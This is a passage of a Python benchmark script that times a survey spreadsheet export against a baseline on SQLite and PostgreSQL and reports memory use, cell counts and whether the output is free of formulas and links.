          + ", ".join(f"{name} {r:,} x {c} ({n:,})" for name, (r, c, n) in checked["sheets"].items()))
    cells = {name: n for name, (_r, _c, n) in checked["sheets"].items()}
    print(f"  Cells written: {sum(cells.values()):,} by our export, {cells['Responses']:,} by the floor "
          f"({sum(cells.values()) / cells['Responses']:.2f}x; Gaps {cells.get('Gaps', 0):,}, "
          f"Matrix {cells.get('Matrix', 0):,})")
    print(f"  Safe to open: {checked['formulas']} formula cells and {checked['links']} links in any sheet; "
          f"{checked['risky_text']:,} Responses cells start with = + - @ or a control character and are text")
    above = peaks["export"].high - idle_mb.median
    print(f"  memory above the idle app: {above:.0f} MB (the export's worst peak {peaks['export'].high:.0f} MB "
          f"less the idle app's {idle_mb.median:.0f} MB)")
    print_load(f"after {label}, {answers:,} answers")

    where = f"{label}, {answers:,} answers"
    export = seconds["export"].median
    lines = [verdict(f"{where}: export within {TIME_GOAL}x of the real floor", export <= TIME_GOAL * floor,
                     f"{export / floor:.2f}x: {export:.1f} s against {floor:.1f} s, medians of {args.repeat}")]
    if answers >= MEMORY_GOAL_ANSWERS:
        lines.append(verdict(f"{where}: memory above the idle app under {MEMORY_GOAL_MB} MB",
                             above < MEMORY_GOAL_MB,
                             f"{above:.0f} MB: the export's peak {peaks['export'].high:.0f} MB, the worst of "
                             f"{args.repeat}, against the idle app's {idle_mb.median:.0f} MB"))
    return lines


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--databases", nargs="+", default=["sqlite"], choices=["sqlite", "postgresql"])
    parser.add_argument("--answers", type=int, nargs="+", default=[50_000, 500_000],
                        help="about how many answers the cycle holds; each size is a council of its own")
    parser.add_argument("--repeat", type=int, default=3, help="turns of export, floor, stock (and CSV)")
    parser.add_argument("--no-csv", action="store_true", help="do not time the Responses CSV")
    parser.add_argument("--profile", nargs="*", choices=PROFILE_MODES, metavar="MODE",
                        help="profile one export instead of the comparison: phases, cprofile and/or tracemalloc "
                             "(all three when none is named)")
    parser.add_argument("--top", type=int, default=25, help="lines of each profile")
    args = parser.parse_args()
    if args.repeat < 1:
        parser.error("--repeat must be at least 1")
    print_load("before")
    closing: list[str] = []
    work = Path(tempfile.mkdtemp(prefix="s17export"))
    try:
        surveys = work / "surveys"
        write_surveys(surveys)
        for database in args.databases:
            for answers in args.answers:
                for label, url, cleanup in database_urls([database]):
                    try:
                        closing += measure(label, url, surveys, work, answers, args)
                    finally:
                        cleanup()
    finally:
        shutil.rmtree(work, ignore_errors=True)
    print_load("after")
    if closing:
        print("\nGoals:")
        for line in closing:
            print(f"  {line}")


if __name__ == "__main__":
    main()
